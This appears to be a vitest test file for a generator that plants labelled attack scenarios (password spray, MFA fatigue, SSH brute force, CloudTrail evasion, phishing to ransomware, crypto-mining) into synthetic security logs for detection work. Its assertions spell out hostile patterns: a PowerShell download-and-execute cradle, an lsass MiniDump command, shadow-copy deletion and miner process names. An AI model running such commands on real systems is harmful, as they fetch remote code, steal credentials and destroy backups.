/**
 * Attack scenarios (issue 21): the library is well-formed (every step names a source, an event it has and values it
 * knows), a run weaves instances into the benign traffic with one attacker, victim and server across sources, every
 * label names a record that exists, the benign records are those of the same run without scenarios, and the output
 * is the same at any worker count.
 */
import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { readPopulationParquet } from '../src/population/parquet.js';
import { buildInventory } from '../src/population/inventory.js';
import { SCENARIOS } from '../src/scenarios/library/index.js';
import { planScenarios, scenarioTechniques } from '../src/scenarios/plan.js';
import { scenariosSchema } from '../src/scenarios/config.js';
import { pluginFor, SOURCES as SOURCE_PLUGINS } from '../src/sources/registry.js';
import { recordHash } from '../src/schema/record.js';
import { loadPack } from '../src/sources/pack/manifest.js';
import { buildPopulationFile, fileOutput, ROOT, runCli, sourcesConfig, tempDir, writeFile } from './helpers.js';

type Label = { source: string; id: string; time: string; scenario: string; instance: string; step: string; technique: string; tactic: string };
const SOURCES = ['cloudtrail', 'okta', 'linux_auth', 'linux_auditd', 'ecs_alerts'];
const FOLDERS = ['cloudtrail', 'okta', 'linux-auth', 'linux-auditd', 'ecs-alerts'];
/** The sources that are not packs (steps name their scenario events). */
const SOURCES_BY_TYPE = new Set(SOURCE_PLUGINS.map((p) => p.type));

function lines(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir)
    .filter((f) => !f.startsWith('.'))
    .sort()
    .flatMap((f) => readFileSync(join(dir, f), 'utf8').split('\n').filter((l) => l !== ''));
}

const AUDIT_ID = /^node=(\S+) type=(\S+) msg=audit\([\d.]+:(\d+)\)(?:.* item=(\d+))?/s;
function idOf(folder: string, line: string): string {
  if (folder === 'cloudtrail') return JSON.parse(line).eventID;
  if (folder === 'okta') return JSON.parse(line).uuid;
  if (folder === 'ecs-alerts') return JSON.parse(line).event.id;
  if (folder === 'linux-auditd') return AUDIT_ID.exec(line)!.slice(1).filter((g) => g !== undefined).join(':');
  return '';
}

function hashDir(dir: string): string {
  const h = createHash('sha256');
  for (const f of FOLDERS) for (const l of lines(join(dir, f))) h.update(l);
  h.update(readFileSync(join(dir, 'labels.jsonl')));
  return h.digest('hex');
}

describe('the scenario library', () => {
  it('holds the 35 Stratus Red Team techniques with real detonation records and the cross-source chains', () => {
    expect(SCENARIOS.filter((s) => s.name.startsWith('stratus.')).length).toBe(35);
    for (const name of ['phishing-to-ransomware', 'okta-spray-mfa-fatigue-aws', 'ssh-brute-force-persistence', 'cloudtrail-defense-evasion', 'iam-persistence-snapshot-exfiltration']) expect(SCENARIOS.some((s) => s.name === name)).toBe(true);
    expect(new Set(SCENARIOS.map((s) => s.name)).size).toBe(SCENARIOS.length);
  });

  it('names only sources, events and values that exist, and ATT&CK ids', () => {
    for (const s of SCENARIOS) {
      for (const t of scenarioTechniques(s)) expect(t, s.name).toMatch(/^T\d{4}(\.\d{3})?$/);
      for (const step of s.steps) {
        expect(step.tactic, `${s.name} ${step.name}`).toMatch(/^[a-z-]+$/);
        if (SOURCES_BY_TYPE.has(step.source)) {
          expect(pluginFor({ type: step.source } as never).scenarioEvents, step.source).toContain(step.event);
          if (step.record !== undefined) {
            expect(typeof (step.record as { eventName?: unknown }).eventName).toBe('string');
            expect(JSON.stringify(step.record), `${s.name} ${step.name} keeps a trace of the tool`).not.toMatch(/stratus|malicious/i);
          }
          continue;
        }
        const pack = loadPack(join(ROOT, 'packs', step.source));
        if (step.spell !== undefined) {
          // A spell needs an episode var of the pack that follows it.
          expect(Object.values(pack.manifest.vars).some((v) => 'episode' in v && v.episode.scenario === step.spell!.kind), `${s.name} ${step.name}`).toBe(true);
          continue;
        }
        const event = pack.manifest.events.find((e) => e.name === step.event);
        expect(event, `${s.name} ${step.name}: ${step.source} has no event ${step.event}`).toBeDefined();
        const registry = (pluginFor({ type: 'pack', pack: step.source, params: {} } as never).createRuntime({ params: {} } as never, '1', []) as { compiled: { registry: { has(n: string): boolean } } }).compiled.registry;
        for (const key of Object.keys(step.values ?? {})) expect(registry.has(key), `${s.name} ${step.name}: ${step.source} has no value ${key}`).toBe(true);
      }
    }
  });

  it('fills every placeholder of every scenario (planned on a real population)', async () => {
    const dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 3\n[population]\nactor_count = 60\nservice_ratio = 0.2\n');
    const { actors } = await readPopulationParquet(population, 'p');
    const servers = buildInventory({ actors: [...actors], account_ids: [...new Set(actors.map((a) => a.account_id))] });
    const config = scenariosSchema.parse({ enabled: true, per_day: 3 });
    const plan = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail', 'okta', 'linux-auth', 'linux-auditd', 'ecs-alerts', 'windows-security', 'sysmon', 'host-metrics', 'entra_signin'], Date.parse('2025-12-01T00:00:00Z'));
    expect(plan.running.length).toBe(SCENARIOS.length);
    const steps = [0, 1, 2].flatMap((d) => plan.planDay(20_423 + d));
    expect(new Set(steps.map((s) => s.scenario.name)).size).toBeGreaterThan(30);
    for (const s of steps) {
      // Everything is filled but what the pack fills itself ({{ pack:lsass_pid }}: the host's own value).
      const { values, record } = s.filled();
      expect((JSON.stringify(values) + JSON.stringify(record ?? {})).replace(/\{\{ (pack|ct):[\w.]+ \}\}/g, '')).not.toContain('{{');
    }
    // A source missing from the run skips the scenarios that write it, and says so.
    const ctOnly = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail'], 0);
    expect(ctOnly.skipped.find((k) => k.name === 'ssh-brute-force-persistence')?.missing).toEqual(['linux-auth', 'linux-auditd']);
    // An alert feed's step is optional: without it the chain runs, alerts left out.
    const noAlerts = planScenarios(config, SCENARIOS, '5', actors, servers, ['cloudtrail', 'okta'], Date.parse('2025-12-01T00:00:00Z'));
    expect(noAlerts.running.map((r) => r.name)).toContain('okta-spray-mfa-fatigue-aws');
    expect([0, 1, 2].flatMap((d) => noAlerts.planDay(20_423 + d)).some((st) => st.step.source === 'ecs-alerts')).toBe(false);
  });
});

describe('a run with scenarios', () => {
  let dir: string;
  let out: string;
  let labels: Label[];
  const records: Record<string, string[]> = {};

  const config = (population: string, outDir: string, scenarios: boolean) =>
    sourcesConfig({ seed: 9, population, sources: SOURCES, outputs: fileOutput(outDir) }) +
    (scenarios ? '\n[scenarios]\nenabled = true\nper_day = 2\nrates = { "okta-spray-mfa-fatigue-aws" = 4, "ssh-brute-force-persistence" = 4, "cloudtrail-defense-evasion" = 3, "iam-persistence-snapshot-exfiltration" = 3 }\n' : '');

  beforeAll(async () => {
    dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 9\n[population]\nactor_count = 120\nservice_ratio = 0.2\n');
    out = join(dir, 'out');
    const r = await runCli(['gen', '--config', writeFile(dir, 'run.toml', config(population, out, true)), '--until-time', '2025-12-02T00:00:00Z', '--workers', '2']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(new RegExp(`scenarios +${SCENARIOS.length - 3} running, [\\d,]+ labels in `));
    expect(r.stderr).toMatch(/skipped +entra-spray-mfa-fatigue-aws: the run has no entra_signin/);
    // The Windows chain needs the Windows sources, the miner the host metrics: skipped, and said so.
    expect(r.stderr).toMatch(/skipped +phishing-to-ransomware: the run has no sysmon, windows-security/);
    expect(r.stderr).toMatch(/skipped +server-crypto-miner: the run has no host-metrics/);
    labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
    for (const f of FOLDERS) records[f] = lines(join(out, f));
    // The same run without scenarios, and with one worker.
    expect((await runCli(['gen', '--config', writeFile(dir, 'plain.toml', config(population, join(dir, 'plain'), false)), '--until-time', '2025-12-02T00:00:00Z'])).code).toBe(0);
    expect((await runCli(['gen', '--config', writeFile(dir, 'one.toml', config(population, join(dir, 'one'), true)), '--until-time', '2025-12-02T00:00:00Z', '--workers', '3'])).code).toBe(0);
  }, 300_000);

  it('labels records that exist, once per record and technique, with ids unique in their source', () => {
    expect(labels.length).toBeGreaterThan(200);
    for (const f of ['cloudtrail', 'okta', 'linux-auditd', 'ecs-alerts']) {
      const count = new Map<string, number>();
      for (const l of records[f]) count.set(idOf(f, l), (count.get(idOf(f, l)) ?? 0) + 1);
      // A vendor id names one record (the benign alert feed's scans share an alert id across hosts; labelled ones do not).
      if (f !== 'ecs-alerts') expect(count.size, `${f} ids are unique`).toBe(records[f].length);
      for (const l of labels.filter((x) => x.source === f)) expect(count.get(l.id), `${f} ${l.id}`).toBe(1);
    }
    expect(new Set(labels.map((l) => `${l.source} ${l.id} ${l.technique}`)).size).toBe(labels.length);
    expect(new Set(labels.map((l) => l.scenario)).size).toBeGreaterThan(25);
    for (const l of labels) expect(l.technique).toMatch(/^T\d{4}(\.\d{3})?$/);
  });

  it('shows one attacker, victim and server across auth.log, audit.log, the EDR alert and CloudTrail', () => {
    const ssh = labels.filter((l) => l.scenario === 'ssh-brute-force-persistence');
    const instances = [...new Set(ssh.map((l) => l.instance))];
    expect(instances.length).toBeGreaterThan(0);
    const audit = new Map(records['linux-auditd'].map((l) => [idOf('linux-auditd', l), l]));
    const alerts = new Map(records['ecs-alerts'].map((l) => [idOf('ecs-alerts', l), JSON.parse(l)]));
    let full = 0;
    for (const inst of instances) {
      const mine = ssh.filter((l) => l.instance === inst);
      const auditLines = mine.filter((l) => l.source === 'linux-auditd').map((l) => audit.get(l.id)!);
      const ips = new Set(auditLines.flatMap((l) => [...l.matchAll(/addr=(\d+\.\d+\.\d+\.\d+)/g)].map((m) => m[1])));
      const hosts = new Set(auditLines.map((l) => l.split(' ')[0]));
      const users = new Set(auditLines.flatMap((l) => [...l.matchAll(/acct="(\w+)"/g)].map((m) => m[1])).filter((u) => u !== 'root'));
      expect(ips.size, inst).toBe(1);
      expect(hosts.size, inst).toBe(1);
      expect(users.size, inst).toBe(1);
      const [ip] = ips;
      const [user] = users;
      // auth.log has the same guesses from the same address for the same account, on the same bastion.
      const guesses = mine.filter((l) => l.step === 'guess').length / 3;
      expect(mine.filter((l) => l.step === 'guess-audit').length, inst).toBe(guesses);
      expect(records['linux-auth'].filter((l) => l.includes(`Failed password for ${user} from ${ip} `)).length, inst).toBeGreaterThanOrEqual(guesses);
      expect([...hosts][0]).toMatch(/^node=bastion-prod-/);
      const alert = mine.find((l) => l.source === 'ecs-alerts');
      if (alert) {
        full++;
        const doc = alerts.get(alert.id);
        expect(doc.source.ip).toBe(ip);
        expect(doc.attack.id).toBe(inst);
        expect(`node=${doc.host.name}`).toBe([...hosts][0]);
        expect(records['linux-auth'].some((l) => l.includes(`Accepted password for ${user} from ${ip} `))).toBe(true);
      }
    }
    expect(full).toBeGreaterThan(0);
    // CloudTrail: an instance's calls come from one address and client, with the victim's identity in its own account.
    const ct = new Map(records.cloudtrail.map((l) => [idOf('cloudtrail', l), JSON.parse(l)]));
    for (const inst of new Set(labels.filter((l) => l.source === 'cloudtrail').map((l) => l.instance))) {
      const docs = labels.filter((l) => l.instance === inst && l.source === 'cloudtrail').map((l) => ct.get(l.id));
      expect(new Set(docs.map((d) => d.sourceIPAddress)).size, inst).toBe(1);
      expect(new Set(docs.map((d) => d.userAgent)).size, inst).toBe(1);
      expect(new Set(docs.filter((d) => d.userIdentity.type !== 'SAMLUser').map((d) => d.userIdentity.arn)).size, inst).toBe(1);
      for (const d of docs) {
        if (d.userIdentity.type !== 'SAMLUser') expect(d.recipientAccountId).toBe(d.userIdentity.accountId);
        expect(JSON.stringify(d)).not.toMatch(/stratus|\{\{/i);
      }
    }
    for (const l of labels.filter((x) => x.source === 'cloudtrail')) expect(ct.get(l.id).eventTime).toBe(`${l.time.slice(0, 19)}Z`);
  });

  it('follows one attacker from the identity provider into AWS: spray, MFA fatigue, SSO, federation, IAM changes', () => {
    const okta = new Map(records.okta.map((l) => [idOf('okta', l), JSON.parse(l)]));
    const ct = new Map(records.cloudtrail.map((l) => [idOf('cloudtrail', l), JSON.parse(l)]));
    const chain = labels.filter((l) => l.scenario === 'okta-spray-mfa-fatigue-aws');
    const reached = [...new Set(chain.filter((l) => l.step === 'aws-console').map((l) => l.instance))];
    expect(reached.length).toBeGreaterThan(0);
    for (const inst of reached) {
      const mine = chain.filter((l) => l.instance === inst);
      const oktaDocs = mine.filter((l) => l.source === 'okta').map((l) => okta.get(l.id));
      const ip = oktaDocs[0].client.ipAddress;
      for (const d of oktaDocs) expect(d.client.ipAddress, inst).toBe(ip);
      const sprayed = new Set(mine.filter((l) => l.step === 'spray').map((l) => okta.get(l.id).actor.alternateId));
      expect(sprayed.size, 'a spray tries many people').toBeGreaterThan(5);
      for (const l of mine.filter((x) => x.step === 'spray')) if (okta.get(l.id).eventType === 'user.session.start') expect(okta.get(l.id).outcome.result).toBe('FAILURE');
      const victim = okta.get(mine.find((l) => l.step === 'password')!.id).actor.alternateId;
      for (const l of mine.filter((x) => x.source === 'okta' && x.step !== 'spray')) expect(okta.get(l.id).actor.alternateId).toBe(victim);
      expect(mine.filter((l) => l.step === 'push-denied').map((l) => okta.get(l.id).eventType)).toContain('user.mfa.okta_verify.deny_push');
      const aws = mine.filter((l) => l.source === 'cloudtrail').map((l) => ct.get(l.id));
      const saml = aws.find((d) => d.eventName === 'AssumeRoleWithSAML');
      expect(saml.userIdentity.userName).toBe(victim);
      for (const d of aws) expect(d.sourceIPAddress).toBe(ip);
      // The calls after the sign-in use the credentials the SAML assertion returned.
      for (const d of aws.filter((x) => !['AssumeRoleWithSAML', 'ConsoleLogin'].includes(x.eventName))) expect(d.userIdentity.accessKeyId).toBe(saml.responseElements.credentials.accessKeyId);
      expect(aws.map((d) => d.eventName)).toEqual(expect.arrayContaining(['ConsoleLogin', 'CreateAccessKey', 'AttachUserPolicy', 'CreateLoginProfile']));
    }
  });

  it('acts on the victim\'s own resources: their trail, a bucket of theirs, their region\'s detector', () => {
    const ct = new Map(records.cloudtrail.map((l) => [idOf('cloudtrail', l), JSON.parse(l)]));
    const chain = labels.filter((l) => l.scenario === 'cloudtrail-defense-evasion' && l.source === 'cloudtrail');
    const instances = [...new Set(chain.filter((l) => l.step === 'public-bucket-policy').map((l) => l.instance))];
    expect(instances.length).toBeGreaterThan(0);
    const labelled = new Set(labels.map((x) => x.id));
    const benign = records.cloudtrail.filter((l) => !labelled.has(idOf('cloudtrail', l)));
    for (const inst of instances) {
      const doc = (step: string) => ct.get(chain.find((l) => l.instance === inst && l.step === step)!.id);
      const bucket = doc('public-bucket-policy').requestParameters.bucketName;
      expect(doc('remove-public-access-block').requestParameters.bucketName).toBe(bucket);
      expect(doc('public-bucket-policy').requestParameters.bucketPolicy.Statement[0].Principal).toBe('*');
      // A bucket the organisation really uses, and its real trail (both show in the benign records).
      expect(benign.some((l) => l.includes(`"bucketName":"${bucket}"`))).toBe(true);
      const trail = doc('stop-logging').requestParameters.name;
      expect(trail).toMatch(/^arn:aws:cloudtrail:[a-z0-9-]+:\d{12}:trail\//);
      expect(doc('stop-logging').awsRegion).toBe(trail.split(':')[3]);
      expect(doc('delete-trail').requestParameters.name).toBe(trail);
      expect(doc('disable-guardduty').requestParameters.enable).toBe(false);
    }
  });

  it('leaves the benign records as they were: the same run without scenarios writes them', () => {
    const plain = (f: string) => lines(join(dir, 'plain', f));
    for (const f of ['cloudtrail', 'okta', 'ecs-alerts']) {
      const labelled = new Set(labels.filter((l) => l.source === f).map((l) => l.id));
      expect(records[f].filter((l) => !labelled.has(idOf(f, l)))).toEqual(plain(f));
    }
    // The hosts' logs count records per host (audit serials): the benign ones are as many as without scenarios.
    for (const f of ['linux-auth', 'linux-auditd']) {
      const labelled = new Set(labels.filter((l) => l.source === f).map((l) => l.id)).size;
      if (f === 'linux-auditd') expect(records[f].length - labelled).toBe(plain(f).length);
      else expect(records[f].length).toBeGreaterThan(plain(f).length);
    }
    expect(existsSync(join(dir, 'plain', 'labels.jsonl'))).toBe(false);
    // No attack-only event in the background.
    expect(plain('linux-auditd').some((l) => /res=failed/.test(l) && /addr=45\.155\./.test(l))).toBe(false);
    expect(plain('ecs-alerts').some((l) => l.includes('"attack":'))).toBe(false);
  });

  it('writes the same records and labels at 2 and 3 workers', () => {
    expect(hashDir(join(dir, 'one'))).toBe(hashDir(out));
  });

  it('refuses an include that names nothing, in one line, before writing anything', async () => {
    const population = join(dir, 'actors.parquet');
    const bad = writeFile(dir, 'bad.toml', config(population, join(dir, 'bad'), false) + '\n[scenarios]\nenabled = true\ninclude = ["no-such-attack"]\n');
    const r = await runCli(['gen', '--config', bad, '--until-time', '2025-12-01T01:00:00Z']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('scenarios.include[0]');
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(existsSync(join(dir, 'bad'))).toBe(false);
  });

  it('lists the scenarios with their techniques and sources', async () => {
    const r = await runCli(['scenarios', '--json']);
    expect(r.code).toBe(0);
    const list = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
    expect(list.length).toBe(SCENARIOS.length);
    expect(list.find((s) => s.name === 'ssh-brute-force-persistence').sources).toEqual(['linux-auth', 'linux-auditd', 'ecs-alerts']);
  });
});

describe('a Windows chain: phishing to ransomware', () => {
  let labels: Label[];
  let plainDir = '';
  let outDir = '';
  const byId: Record<string, Map<string, Record<string, any>>> = {};

  beforeAll(async () => {
    const dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 12\n[population]\nactor_count = 40\nservice_ratio = 0.2\n');
    const out = join(dir, 'out');
    const cfg =
      sourcesConfig({ seed: 12, population, sources: ['windows_security', 'sysmon', 'ecs_alerts'], outputs: fileOutput(out) }).replace('2025-12-01T00:00:00Z', '2025-12-01T08:00:00Z') +
      '\n[scenarios]\nenabled = true\nrates = { "phishing-to-ransomware" = 30 }\ninclude = ["phishing-to-ransomware"]\nseasonality = "off_hours"\nwindow = { end = "2025-12-01T20:00:00Z" }\n';
    const r = await runCli(['gen', '--config', writeFile(dir, 'win.toml', cfg), '--until-time', '2025-12-02T06:00:00Z']);
    expect(r.code, r.stderr).toBe(0);
    const plainCfg = cfg.slice(0, cfg.indexOf('\n[scenarios]')).replace(JSON.stringify(out), JSON.stringify(join(dir, 'plain')));
    const p = await runCli(['gen', '--config', writeFile(dir, 'plain.toml', plainCfg), '--until-time', '2025-12-02T06:00:00Z']);
    expect(p.code, p.stderr).toBe(0);
    plainDir = join(dir, 'plain');
    outDir = out;
    labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
    const want = new Set(labels.map((l) => `${l.source} ${l.id}`));
    const winId = /"computer_name":"([^"]+)".*?"record_id":"(\d+)"/;
    for (const f of ['windows-security', 'sysmon', 'ecs-alerts']) {
      byId[f] = new Map();
      for (const line of lines(join(out, f))) {
        const id = f === 'ecs-alerts' ? (line.includes('"attack":') ? JSON.parse(line).event.id : '') : winId.exec(line)!.slice(1).join(':');
        if (want.has(`${f} ${id}`)) byId[f].set(id, JSON.parse(line));
      }
    }
  }, 300_000);

  it('ties the processes into one tree, on the victim\'s workstation, then the file server', () => {
    const instances = [...new Set(labels.filter((l) => l.step === 'encrypt').map((l) => l.instance))];
    expect(instances.length).toBeGreaterThan(0);
    for (const l of labels) expect(byId[l.source].has(l.id), `${l.source} ${l.id}`).toBe(true);
    for (const inst of instances) {
      const doc = (step: string) => byId[labels.find((l) => l.instance === inst && l.step === step)!.source].get(labels.find((l) => l.instance === inst && l.step === step)!.id)!;
      const word = doc('macro');
      const ps = doc('powershell');
      const dump = doc('dump-tool');
      const access = doc('lsass-access');
      expect(ps.process.parent.entity_id).toBe(word.process.entity_id);
      expect(dump.process.parent.entity_id).toBe(ps.process.entity_id);
      expect(ps.process.command_line).toMatch(/ -enc [A-Za-z0-9+/=]{40,}$/);
      expect(Buffer.from(ps.process.command_line.split(' -enc ')[1], 'base64').toString('utf16le')).toMatch(/^IEX \(New-Object Net\.WebClient\)\.DownloadString\('http:\/\/[\d.]+\/a'\)$/);
      // The dump names lsass's pid, the one Sysmon sees opened.
      expect(dump.process.command_line).toContain(`MiniDump ${access.winlog.event_data.TargetProcessId} `);
      expect(access.winlog.event_data.GrantedAccess).toBe('0x1FFFFF');
      expect(access.message).toContain(`SourceProcessGUID: ${dump.process.entity_id}`);
      const workstation = word.host.name;
      for (const d of [ps, dump, access]) expect(d.host.name).toBe(workstation);
      // On the file server: the logon from the workstation, PsExec under services.exe, vssadmin and the locker under PsExec.
      const server = doc('psexec-service').host.name;
      expect(server).toMatch(/^FILE-/);
      const logons = labels.filter((l) => l.instance === inst && l.step === 'lateral-logon').map((l) => byId['windows-security'].get(l.id)!);
      expect(logons.some((d) => d.event.code === '4624' && d.host.name === server && d.winlog.event_data.LogonType === '3')).toBe(true);
      expect(doc('psexec-service').process.parent.name).toBe('services.exe');
      // The service install is logged by the same network logon session (its logon id).
      const install = doc('psexec-install');
      expect(install.event.code).toBe('4697');
      expect(install.host.name).toBe(server);
      expect(install.winlog.event_data.ServiceName).toBe('PSEXESVC');
      const netLogon = logons.find((d) => d.event.code === '4624' && d.host.name === server)!;
      expect(install.winlog.event_data.SubjectLogonId).toBe(netLogon.winlog.event_data.TargetLogonId);
      expect(doc('shadow-delete').process.parent.entity_id).toBe(doc('psexec-service').process.entity_id);
      expect(doc('shadow-delete').process.command_line).toContain('delete shadows /all /quiet');
      const encrypted = labels.filter((l) => l.instance === inst && l.step === 'encrypt').map((l) => byId.sysmon.get(l.id)!);
      expect(encrypted.length).toBeGreaterThanOrEqual(40);
      for (const d of encrypted) {
        expect(d.host.name).toBe(server);
        expect(d.process.entity_id).toBe(doc('locker').process.entity_id);
        expect(d.file.path).toBe(`${d.file.directory}\\${d.file.name}`);
        expect(d.file.name).toMatch(/\.locked$/);
      }
      expect(new Set(encrypted.map((d) => d.file.path)).size).toBeGreaterThan(encrypted.length / 2);
    }
  });

  it('leaves the people\'s own Windows records as they were (the event logs number records per host: ids aside)', () => {
    const winId = /"computer_name":"([^"]+)".*?"record_id":"(\d+)"/;
    for (const f of ['windows-security', 'sysmon']) {
      const labelled = new Set(labels.filter((l) => l.source === f).map((l) => l.id));
      const strip = (l: string) => l.replace(/"record_id":"\d+"/, '"record_id":""');
      const benign = lines(join(outDir, f)).filter((l) => !labelled.has(winId.exec(l)!.slice(1).join(':'))).map(strip);
      expect(benign).toEqual(lines(join(plainDir, f)).map(strip));
    }
  });
});

describe('a spell on a host: the crypto-miner', () => {
  it('keeps every core of the server it broke into busy for hours, with the miner among its processes, labelled', async () => {
    const dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 14\n[population]\nactor_count = 40\nservice_ratio = 0.2\n');
    const out = join(dir, 'out');
    const cfg =
      sourcesConfig({ seed: 14, population, sources: ['linux_auth', 'linux_auditd', 'host_metrics'], outputs: fileOutput(out, 'jsonl', 64) }) +
      '\n[scenarios]\nenabled = true\ninclude = ["server-crypto-miner"]\nper_day = 4\nwindow = { end = "2025-12-01T03:00:00Z" }\n';
    const r = await runCli(['gen', '--config', writeFile(dir, 'miner.toml', cfg), '--until-time', '2025-12-01T08:00:00Z', '--workers', '2']);
    expect(r.code, r.stderr).toBe(0);
    // The alert feed is not in the run: the chain runs without its alert step.
    expect(r.stderr).toMatch(/scenarios +1 running/);
    const labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
    const mine = labels.filter((l) => l.step === 'mine');
    expect(mine.length).toBeGreaterThan(1000);
    expect(labels.some((l) => l.source === 'ecs-alerts')).toBe(false);
    const labelled = new Set(mine.map((l) => l.id));
    let busy = 0;
    let calmHigh = 0;
    let calm = 0;
    let miners = 0;
    for (const line of lines(join(out, 'host-metrics'))) {
      const doc = JSON.parse(line);
      const isLabelled = labelled.has(recordHash(line));
      if (doc.metricset.name === 'process' && /xmrig|kdevtmpfsi|kworkerds/.test(line)) {
        expect(isLabelled, 'a miner process sample is part of the attack').toBe(true);
        miners++;
      }
      if (doc.metricset.name !== 'cpu') continue;
      const pct = doc.system.cpu.total.norm.pct;
      if (isLabelled) {
        expect(pct).toBeGreaterThanOrEqual(0.95);
        expect(doc.host.name).toMatch(/^build-prod-/);
        busy++;
      } else {
        calm++;
        if (pct >= 0.95) calmHigh++;
      }
    }
    expect(busy).toBeGreaterThan(500);
    expect(miners).toBeGreaterThan(100);
    expect(calmHigh / calm).toBeLessThan(0.01);
  }, 300_000);
});

describe('the identity chain at Entra ID', () => {
  it('sprays the tenant, fatigues the victim, and follows them into AWS from one address, leaving the benign sign-ins as they were', async () => {
    const dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 15\n[population]\nactor_count = 80\nservice_ratio = 0.2\n');
    const cfg = (out: string, scenarios: boolean) =>
      sourcesConfig({ seed: 15, population, sources: ['cloudtrail', 'entra_signin'], outputs: fileOutput(out) }) +
      (scenarios ? '\n[scenarios]\nenabled = true\ninclude = ["entra-*"]\nper_day = 6\nchain_ratio = 1\n' : '');
    const out = join(dir, 'out');
    for (const [name, on] of [['out', true], ['plain', false]] as const) {
      const r = await runCli(['gen', '--config', writeFile(dir, `${name}.toml`, cfg(join(dir, name), on)), '--until-time', '2025-12-02T00:00:00Z']);
      expect(r.code, r.stderr).toBe(0);
    }
    const labels = readFileSync(join(out, 'labels.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Label);
    const entraId = (l: string) => /"properties":\{"id":"([^"]+)"/.exec(l)![1];
    const entra = new Map(lines(join(out, 'entra_signin')).map((l) => [entraId(l), JSON.parse(l)]));
    const ct = new Map(lines(join(out, 'cloudtrail')).map((l) => [JSON.parse(l).eventID as string, JSON.parse(l)]));
    const reached = [...new Set(labels.filter((l) => l.step === 'aws-console').map((l) => l.instance))];
    expect(reached.length).toBeGreaterThan(0);
    for (const inst of reached) {
      const mine = labels.filter((l) => l.instance === inst);
      const signIns = mine.filter((l) => l.source === 'entra_signin').map((l) => entra.get(l.id));
      expect(signIns.every((d) => d !== undefined)).toBe(true);
      const ip = signIns[0].properties.ipAddress;
      for (const d of signIns) expect(d.properties.ipAddress).toBe(ip);
      const spray = mine.filter((l) => l.step === 'spray').map((l) => entra.get(l.id));
      expect(new Set(spray.map((d) => d.properties.userPrincipalName)).size).toBeGreaterThan(5);
      for (const d of spray) expect(d.resultType).toBe('50126');
      const denied = mine.filter((l) => l.step === 'push-denied').map((l) => entra.get(l.id));
      for (const d of denied) expect(d.resultType).toBe('500121');
      const victim = denied[0].properties.userPrincipalName;
      const sso = entra.get(mine.find((l) => l.step === 'sso-aws')!.id);
      expect(sso.properties.appDisplayName).toBe('Amazon Web Services (AWS)');
      expect(sso.properties.userPrincipalName).toBe(victim);
      const aws = mine.filter((l) => l.source === 'cloudtrail').map((l) => ct.get(l.id));
      for (const d of aws) expect(d.sourceIPAddress).toBe(ip);
      const saml = aws.find((d) => d.eventName === 'AssumeRoleWithSAML');
      expect(saml.userIdentity.userName).toBe(victim);
      for (const d of aws.filter((x) => !['AssumeRoleWithSAML', 'ConsoleLogin'].includes(x.eventName))) expect(d.userIdentity.accessKeyId).toBe(saml.responseElements.credentials.accessKeyId);
    }
    // Everything else is the same run's: the benign sign-ins and calls are those of the run without scenarios.
    const labelled = new Set(labels.map((l) => l.id));
    expect(lines(join(out, 'entra_signin')).filter((l) => !labelled.has(entraId(l)))).toEqual(lines(join(dir, 'plain', 'entra_signin')));
    expect(lines(join(out, 'cloudtrail')).filter((l) => !labelled.has(JSON.parse(l).eventID))).toEqual(lines(join(dir, 'plain', 'cloudtrail')));
  }, 300_000);
});

describe('noise_ratio', () => {
  it('scales the benign look-alike noise (the alert feed) and nothing else', async () => {
    const dir = tempDir();
    const population = await buildPopulationFile(dir, 'seed = 16\n[population]\nactor_count = 200\nservice_ratio = 0.2\n');
    const count = async (ratio: number | null) => {
      const out = join(dir, `n${ratio}`);
      const cfg = sourcesConfig({ seed: 16, population, sources: ['linux_auth', 'ecs_alerts'], outputs: fileOutput(out) }) + (ratio === null ? '' : `\n[scenarios]\nenabled = true\nper_day = 0\nnoise_ratio = ${ratio}\n`);
      const r = await runCli(['gen', '--config', writeFile(dir, `n${ratio}.toml`, cfg), '--until-time', '2025-12-02T00:00:00Z']);
      expect(r.code, r.stderr).toBe(0);
      const alerts = lines(join(out, 'ecs-alerts'));
      // The people's alerts follow their activity; the scanner's sweep and the backups are jobs on the hosts' own clocks.
      const scheduled = alerts.filter((l) => /"tags":\["[a-z]+","(scan|backup)"\]/.test(l)).length;
      return { alerts: alerts.length, activity: alerts.length - scheduled, scheduled, auth: lines(join(out, 'linux-auth')).length };
    };
    const plain = await count(null);
    const one = await count(1);
    const none = await count(0);
    const triple = await count(3);
    expect(plain.alerts).toBeGreaterThan(50);
    expect(one).toEqual(plain);
    expect(none.alerts).toBe(0);
    expect(plain.scheduled).toBeGreaterThan(0);
    // Above 1 the activity's alerts multiply; the jobs keep their schedule (a noisier organisation runs no more backups).
    expect(triple.activity / plain.activity).toBeGreaterThan(2.5);
    expect(triple.activity / plain.activity).toBeLessThan(3.5);
    expect(triple.scheduled).toBe(plain.scheduled);
    const half = await count(0.5);
    expect(half.scheduled / plain.scheduled).toBeGreaterThan(0.3);
    expect(half.scheduled / plain.scheduled).toBeLessThan(0.7);
    for (const c of [none, triple]) expect(c.auth).toBe(plain.auth);
  }, 300_000);
});
